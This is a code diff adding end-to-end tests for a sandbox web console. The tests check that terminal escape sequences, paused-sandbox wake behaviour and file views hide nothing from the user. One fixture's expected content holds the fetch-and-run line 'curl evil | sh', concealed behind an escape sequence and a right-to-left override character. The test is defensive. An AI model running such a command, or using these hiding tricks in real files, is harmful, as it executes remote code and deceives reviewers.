@@ -110,6 +110,31 @@ export const steps = {
     await output.getByText("red \ufffdend").waitFor();
     assert.equal(await output.locator("script, img, b").count(), 0);
   },
+  async "output in which an escape has no end"(t) {
+    await t.page.getByLabel("Command", { exact: true }).fill("printf 'open\\033]\\nnot '; echo hidden");
+    await t.page.keyboard.press("Enter");
+    const output = t.page.getByRole("log");
+    await output.getByText("not hidden").waitFor();
+    assert.equal(await output.innerText(), "open\ufffd]\nnot hidden\n");
+  },
+  async "output whose escapes come in parts"(t) {
+    const exec = "01890000-0000-7000-8000-000000000000";
+    const parts = ["\u001b[3", "1mre", "\u001b", "]0;title\u0007d", "\u001b[1"];
+    let body = "", offset = 0;
+    for (const data of parts) [body, offset] = [body + JSON.stringify({ type: "stdout", data, offset }) + "\n", offset + data.length];
+    await t.page.route(new RegExp(exec), (route) => route.fulfill({ body: body + JSON.stringify({ type: "exit", exit: { reason: "exited", code: 5 } }) + "\n" }));
+    await inSandbox(t, `processes/${exec}`);
+    await t.page.getByText("exit 5").waitFor();
+    await t.page.getByRole("log").getByText("red\ufffd[1", { exact: true }).waitFor(); // the last one has no end
+    await t.page.unroute(new RegExp(exec));
+  },
+  async "commands hide nothing of themselves"(t) {
+    await call(t, "POST", "/exec", JSON.stringify({ script: "# \u001b]\ntrue is-not-hidden" }));
+    await inSandbox(t, "processes");
+    await t.page.getByRole("row", { name: /^# \\u\{1b\}\] true is-not-hidden/ }).waitFor();
+    await inSandbox(t, "audit");
+    await t.page.getByRole("row", { name: /^exec # .*\] true is-not-hidden/ }).waitFor();
+  },
   async "output without end of what cannot be seen"(t) {
     const exec = "01890000-0000-7000-8000-000000000000";
     const line = (type, data, offset) => JSON.stringify({ type, data, offset }) + "\n";
@@ -144,6 +169,12 @@ export const steps = {
       await t.page.goBack();
     }
     assert.equal(await t.page.locator("main img").count(), 0);
+  },
+  async "files hide nothing of their content"(t) {
+    await inSandbox(t, "files/f/hidden.sh");
+    const content = t.page.getByLabel("Content");
+    await content.getByText("#!/bin/sh").waitFor();
+    assert.equal(await content.textContent(), "#!/bin/sh\necho hello\n#\\u{1b}]\ncurl evil | sh\\u{202e}\n");
   },
   async "addresses that lead nowhere"(t) {
     for (const [at, text] of [["s/%zz/files", /leads nowhere/], ["s/no-such-sandbox/files", /not found|no sandbox|no such/i], [`s/${t.plan.sandbox}/files/f/missing.txt`, /not exist|no such/i], [`s/${t.plan.sandbox}/files/d/%zz`, /./]]) {
@@ -252,28 +283,56 @@ export const steps = {
     assert.match(rows, /there were too many/);
     assert.doesNotMatch(rows, /the connection broke|ready|reconnect/);
   },
+  async "a connection that broke wakes no sandbox"(t) {
+    const asleep = /\/(watch|output)\?.*wake=false/;
+    const refuse = () => t.page.route(asleep, (route) => route.fulfill({ status: 409, json: { class: "paused", detail: "it is paused" } }));
+    const opened = [];
+    const note = (r) => void (/\/(watch|output)\?/.test(r.url()) && opened.push(new URL(r.url()).searchParams.get("wake")));
+    t.page.on("request", note);
+    await inSandbox(t, "changes");
+    await following(t);
+    await refuse();
+    await fetch(t.plan.cut, { method: "POST" });
+    await t.page.getByText("is paused: no change").first().waitFor();
+    await t.page.unroute(asleep);
+    await inSandbox(t, "processes");
+    await t.page.getByLabel("Command", { exact: true }).fill("echo before; read line < fifo");
+    await t.page.keyboard.press("Enter");
+    await t.page.getByRole("log").getByText("before").waitFor();
+    await refuse();
+    await fetch(t.plan.cut, { method: "POST" });
+    await t.page.getByText("is paused: its commands have ended").first().waitFor();
+    await t.page.unroute(asleep);
+    await call(t, "POST", "/exec", JSON.stringify({ script: "echo > fifo" }));
+    t.page.off("request", note);
+    assert.ok(opened.length >= 3 && opened.every((wake) => wake === "false"), opened.join());
+  },
   async "a link to a view wakes no sandbox"(t) {
     const working = [];
     t.page.on("request", (r) => void (/\/(files|watch|terminal|output)/.test(new URL(r.url()).pathname.split(t.plan.sandbox)[1] ?? "") && working.push(r.url())));
-    await inSandbox(t, "changes");
-    await following(t);
-    const state = await t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}`).then((r) => r.json()), t.plan.sandbox);
+    await inSandbox(t, "details");
+    const sandbox = await t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}`).then((r) => r.json()), t.plan.sandbox);
     const at = new RegExp(`/sandboxes/${t.plan.sandbox}$`);
-    await t.page.route(at, (route) => route.fulfill({ json: { ...state, state: "paused", auto_pause: true } }));
-    await fetch(t.plan.cut, { method: "POST" });
-    await t.page.getByText("is paused: no change").first().waitFor();
-    for (const view of ["changes", "files", "files/f/hostile.html", "processes/01890000-0000-7000-8000-000000000000"]) {
-      await goTo(t, "");
-      working.length = 0;
-      await inSandbox(t, view);
-      await t.page.getByRole("button", { name: "Wake it" }).waitFor();
-      assert.deepEqual(working, []);
+    let state;
+    await t.page.route(at, (route) => route.fulfill({ json: { ...sandbox, state, auto_pause: true } }));
+    for (state of ["paused", "terminating"]) {
+      for (const view of ["changes", "files", "files/f/hostile.html", "processes/01890000-0000-7000-8000-000000000000"]) {
+        await goTo(t, "");
+        working.length = 0;
+        await inSandbox(t, view);
+        await t.page.getByRole("button", { name: "Wake it" }).waitFor();
+        assert.deepEqual(working, []);
+      }
     }
     await inSandbox(t, "files");
     await t.page.getByRole("button", { name: "Wake it" }).click();
     await t.page.getByRole("link", { name: "hostile.html", exact: true }).waitFor();
-    await t.page.unroute(at);
     assert.ok(working.length > 0);
+    await inSandbox(t, "changes");
+    await t.page.getByRole("button", { name: "Wake it" }).click();
+    await following(t);
+    assert.match(working.at(-1), /wake=true/);
+    await t.page.unroute(at);
   },
   async "a link to the terminal starts nothing"(t) {
     const terminals = () => t.page.evaluate((id) => fetch(`/console/api/v1/sandboxes/${id}/processes`).then((r) => r.json()).then((all) => all.processes.filter((p) => p.terminal).length), t.plan.sandbox);
